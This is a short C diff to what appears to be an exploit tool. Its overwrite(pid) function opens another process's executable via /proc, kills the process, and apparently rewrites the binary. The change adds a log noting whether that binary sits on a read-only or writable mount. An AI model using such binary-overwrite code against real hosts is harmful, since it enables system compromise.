@@ -21,6 +21,7 @@
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/statvfs.h>
 #include <sys/syscall.h>
 #include <sys/uio.h>
 #include <time.h>
@@ -64,6 +65,7 @@ static int overwrite(int pid)
 {
 	char path[64], link[256] = "";
 	struct stat theirs, shell, ours;
+	struct statvfs fs;
 	int fd, out = -1;
 
 	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
@@ -78,7 +80,8 @@ static int overwrite(int pid)
 		return 0;
 	}
 	(void)!readlink(path, link, sizeof(link) - 1);
-	printf("caught %s\n", link);
+	printf("caught %s, on a %s mount\n", link,
+	       fstatvfs(fd, &fs) == 0 && fs.f_flag & ST_RDONLY ? "read-only" : "writable");
 	kill(pid, SIGKILL);
 	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
 	/* Busy as long as it runs. */
